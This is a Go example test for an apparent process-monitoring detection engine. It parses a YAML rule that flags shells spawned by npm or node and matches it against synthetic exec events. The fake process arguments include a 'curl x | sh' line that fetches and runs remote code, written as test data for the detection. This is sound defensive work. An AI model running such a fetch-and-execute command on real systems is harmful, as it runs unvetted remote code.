package recipe_test

import (
	"fmt"

	"github.com/vigil-otel/vigil/event"
	"github.com/vigil-otel/vigil/proctable"
	"github.com/vigil-otel/vigil/recipe"
)

// tree is a process tree to find parents in.
type tree map[uint32]*proctable.Process

func (t tree) Lookup(pid uint32) *proctable.Process { return t[pid] }

// A recipe of one's own, parsed and matched against two execs; a broken
// recipe in the same file would be reported and left out, not stop this
// one.
func Example() {
	recipes, errs := recipe.Parse("shells.yaml", []byte(`
recipes:
  - name: shell_from_package_install
    version: 1
    description: A shell started by a package manager
    tactic: {id: TA0002, name: Execution}
    technique: {id: T1059.004, name: Unix Shell}
    importance: medium
    match:
      executable: {name: [sh, bash, dash]}
      parent:
        executable: {name: [npm, node]}
`), "example")
	if len(errs) > 0 {
		panic(errs)
	}
	engine, err := recipe.NewEngine(recipes)
	if err != nil {
		panic(err)
	}
	procs := tree{
		10: {PID: 10, PPID: 1, Exe: "/usr/bin/node", Args: []string{"node", "install.js"}},
		11: {PID: 11, PPID: 1, Exe: "/usr/bin/make", Args: []string{"make"}},
	}
	for _, parent := range []uint32{10, 11} {
		ev := &event.Event{Kind: event.KindExec, PID: 20, PPID: parent, ExePath: "/usr/bin/dash"}
		proc := &proctable.Process{PID: 20, PPID: parent, Exe: "/usr/bin/dash", Args: []string{"sh", "-c", "curl x | sh"}}
		for _, hit := range engine.Match(&recipe.Input{Event: ev, Process: proc, Processes: procs}, nil) {
			fmt.Printf("%s under %s: %s (%s)\n", proc.Exe, procs[parent].Exe, hit.Recipe.Name, hit.Recipe.Importance)
		}
	}
	// Output:
	// /usr/bin/dash under /usr/bin/node: shell_from_package_install (medium)
}
